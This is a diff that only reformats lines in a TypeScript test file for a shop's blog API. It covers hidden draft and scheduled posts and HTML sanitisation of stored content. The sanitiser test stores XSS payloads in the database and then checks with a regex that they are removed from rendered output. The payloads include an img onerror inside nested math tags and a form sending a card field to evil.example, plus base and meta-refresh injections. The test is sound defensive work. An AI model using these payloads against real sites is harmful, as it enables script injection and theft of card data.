@@ -79,11 +79,14 @@ test('drafts and posts of the future are hidden until their hour comes', async (
   const { blog } = shop.client()
   const [draft, later] = (await blog.posts({})).results.map((post) => post.slug)
   await shop.database.db.execute(sql`update blog_posts set published_at = null where slug = ${draft}`)
-  await shop.database.db.execute(sql`update blog_posts set published_at = now() + interval '1 hour' where slug = ${later}`)
+  await shop.database.db.execute(
+    sql`update blog_posts set published_at = now() + interval '1 hour' where slug = ${later}`,
+  )
   const hidden = await blog.posts({ page_size: 100 })
   expect(hidden.count).toBe(10)
   expect(hidden.results.map((post) => post.slug)).not.toContain(draft)
-  for (const slug of [draft, later]) expect(await refusalOf(blog.post({ slug: slug ?? '' }))).toEqual([404, 'Post not found.'])
+  for (const slug of [draft, later])
+    expect(await refusalOf(blog.post({ slug: slug ?? '' }))).toEqual([404, 'Post not found.'])
   shop.pass(61 * 60_000)
   expect((await blog.posts({})).results[0]?.slug).toBe(later)
   expect((await blog.posts({})).count).toBe(11)
@@ -98,12 +101,20 @@ test('a script that got into the database stays there: what is shown runs nothin
     <a href="https://example.com" target="_blank">g</a><a href="/products">h</a><math><mtext><table><mglyph><style><img src onerror=a()></style></table></math>
     <form action="https://evil.example"><input name=card></form><meta http-equiv=refresh content=0><base href="https://evil.example"><b>bold</b>`
   await shop.database.db.execute(sql`update blog_posts set content = ${poison} where slug = ${slug}`)
-  await shop.database.db.execute(sql`update shop_content set value = jsonb_set(value, '{story}', to_jsonb(${poison}::text)) where key = 'about'`)
+  await shop.database.db.execute(
+    sql`update shop_content set value = jsonb_set(value, '{story}', to_jsonb(${poison}::text)) where key = 'about'`,
+  )
   const listed = (await blog.posts({ page_size: 100 })).results.find((post) => post.slug === slug)
-  for (const html of [(await blog.post({ slug })).content, listed?.content ?? 'missing', (await about.read({})).story]) {
+  for (const html of [
+    (await blog.post({ slug })).content,
+    listed?.content ?? 'missing',
+    (await about.read({})).story,
+  ]) {
     expect(html).toContain('<p>Sage</p>')
     expect(html).toContain('<a href="https://example.com" rel="noopener nofollow">g</a>')
     expect(html).toContain('<a href="/products">h</a>')
-    expect(html).not.toMatch(/<(script|img|svg|style|iframe|form|input|meta|base|math|b)\b|onclick|onerror|onload|javascript:|evil\.example|data:/i)
+    expect(html).not.toMatch(
+      /<(script|img|svg|style|iframe|form|input|meta|base|math|b)\b|onclick|onerror|onload|javascript:|evil\.example|data:/i,
+    )
   }
 })
